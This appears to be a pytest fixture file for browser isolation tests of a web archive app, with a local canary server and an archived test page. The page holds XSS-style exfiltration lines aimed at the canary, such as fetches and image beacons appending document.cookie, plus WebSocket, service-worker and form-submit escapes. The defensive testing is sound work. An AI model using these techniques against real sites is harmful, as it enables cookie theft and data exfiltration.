"""Browser fixtures: the web app and the raw origin under waitress on 127.0.0.1 (port 0), a canary "live web" on
127.0.0.2 that counts every request, and Debian's Chromium driven by Playwright."""

from __future__ import annotations

import datetime as dt
import importlib.util
import os
import socket
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from browsersite import Canary, Site

WEB_TESTS = Path(__file__).resolve().parents[1] / "unit" / "web"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
]


def _load(name: str) -> ModuleType:
    """The web unit tests' corpus builder and payloads, loaded by path (test folders are not packages)."""
    if name in sys.modules:
        return sys.modules[name]
    spec = importlib.util.spec_from_file_location(name, WEB_TESTS / f"{name}.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="session")
def chromium_path() -> str:
    path = os.environ.get("GONGKAI_CHROMIUM", "/usr/bin/chromium")
    if not Path(path).is_file():
        message = f"Chromium not found at {path} (set GONGKAI_CHROMIUM)"
        if os.environ.get("GONGKAI_REQUIRE_BROWSER") == "1":
            pytest.fail(message)
        pytest.skip(message)
    return path


def _canary_handler(canary: Canary) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def _count(self) -> None:
            with canary.lock:
                canary.hits.append((self.command, self.path))
            body = b"/* canary */"
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(body)

        do_GET = do_POST = do_HEAD = do_PUT = do_OPTIONS = do_DELETE = _count  # noqa: N815

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            return

    return Handler


@pytest.fixture(scope="session")
def canary() -> Iterator[Canary]:
    server = ThreadingHTTPServer(("127.0.0.2", 0), _canary_handler(Canary("")))
    canary = Canary(f"http://127.0.0.2:{server.server_address[1]}")
    server.RequestHandlerClass = _canary_handler(canary)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield canary
    server.shutdown()
    server.server_close()
    thread.join(5)


def isolation_page(c: str) -> bytes:
    """An archived page trying every way out we know of (docs/TESTPLAN.md finding 12 and S1), all aimed at the canary."""
    ws = c.replace("http://", "ws://")
    return f"""<!doctype html><html><head><meta charset="utf-8">
<title>ISOLATION-FIXTURE</title>
<base href="{c}/base/">
<meta http-equiv="refresh" content="0;url={c}/meta-refresh">
<link rel="stylesheet" href="{c}/link-css">
<link rel="preload" href="{c}/preload" as="image">
<link rel="prefetch" href="{c}/prefetch">
<link rel="icon" href="{c}/icon">
<link rel="manifest" href="{c}/manifest">
<style>@import url({c}/css-import); @font-face {{ font-family: gk; src: url({c}/font) }}
body {{ font-family: gk; background: url({c}/css-bg) }}</style>
<script src="{c}/script-src"></script>
<script>
document.title = "SCRIPT-RAN";
console.log("gk-archived-script " + document.cookie);
try {{ fetch("{c}/fetch?c=" + document.cookie); }} catch (e) {{}}
try {{ new Image().src = "{c}/js-image?c=" + document.cookie; }} catch (e) {{}}
try {{ navigator.sendBeacon("{c}/beacon", "x"); }} catch (e) {{}}
try {{ var x = new XMLHttpRequest(); x.open("GET", "{c}/xhr"); x.send(); }} catch (e) {{}}
try {{ new EventSource("{c}/eventsource"); }} catch (e) {{}}
try {{ new WebSocket("{ws}/websocket"); }} catch (e) {{}}
try {{ navigator.serviceWorker.register("{c}/sw.js"); }} catch (e) {{}}
try {{ window.open("{c}/window-open"); }} catch (e) {{}}
try {{ alert("gk-alert"); }} catch (e) {{}}
setTimeout(function () {{ try {{ top.location = "{c}/top-location"; }} catch (e) {{}} }}, 700);
</script>
</head><body onload="fetch('{c}/body-onload')">
<p id="marker">存档页面正文 ISOLATION</p>
<img src="{c}/img"><img srcset="{c}/srcset 2x"><img src="relative-via-base.png">
<picture><source srcset="{c}/picture"><img alt="p"></picture>
<video src="{c}/video" autoplay muted></video><video poster="{c}/poster"></video>
<audio src="{c}/audio" autoplay></audio>
<iframe src="{c}/iframe"></iframe>
<object data="{c}/object"></object><embed src="{c}/embed">
<svg width="10" height="10"><image href="{c}/svg-image" width="10" height="10"/></svg>
<input type="image" src="{c}/input-image" alt="i">
<table background="{c}/table-bg"><tr><td>t</td></tr></table>
<div style="background-image: url({c}/inline-style)">s</div>
<form id="f" action="{c}/form" method="post"><input name="a" value="1"></form>
<a id="ping" href="#here" ping="{c}/ping">ping</a>
<img src="x:" onerror="fetch('{c}/onerror')">
<script>document.getElementById("f").submit();</script>
</body></html>""".encode()


def _bind() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)
    return sock


@pytest.fixture(scope="session")
def site(tmp_path_factory: pytest.TempPathFactory, canary: Canary, chromium_path: str) -> Iterator[Site]:
    from waitress.server import create_server

    from web import WebSettings, create_app, make_raw_app

    corpus_mod = _load("webcorpus")
    payloads: tuple[str, ...] = _load("xss_payloads").PAYLOADS
    today = dt.datetime.now(dt.timezone(dt.timedelta(hours=8))).date()
    fixture = corpus_mod.make_parsed(
        "隔离测试页面", "市公安局", "公安", "2025-05-05", "隔离测试 存档页面正文"
    )
    isolation = corpus_mod.Page(
        "isolation", "http://gov.example/art/isolation.html", fixture, html=isolation_page(canary.url)
    )
    pages = corpus_mod.standard_pages(today) + corpus_mod.xss_pages(payloads) + [isolation]
    corpus = corpus_mod.build_corpus(tmp_path_factory.mktemp("browser") / "data", pages)
    app_sock, raw_sock = _bind(), _bind()
    app_origin = f"http://127.0.0.1:{app_sock.getsockname()[1]}"
    raw_origin = f"http://127.0.0.1:{raw_sock.getsockname()[1]}"
    settings = WebSettings(app_origin=app_origin, raw_origin=raw_origin, rate_per_s=1000.0, rate_burst=1000)
    app = create_app(
        settings,
        data_dir=corpus.data_dir,
        index_settings=corpus.index_settings,
        enable_unsafe_test_routes=True,
    )
    raw_app = make_raw_app(settings, data_dir=corpus.data_dir)
    raw_port = str(raw_sock.getsockname()[1])

    def dispatch(environ: dict[str, Any], start_response: Callable[..., Any]) -> Any:
        return (raw_app if environ.get("SERVER_PORT") == raw_port else app)(environ, start_response)

    server = create_server(dispatch, sockets=[app_sock, raw_sock], threads=4, ident="gongkai")
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    yield Site(app_origin, raw_origin, corpus, canary, payloads)
    server.close()
    thread.join(5)


@pytest.fixture(scope="session")
def browser(chromium_path: str) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=chromium_path, args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()
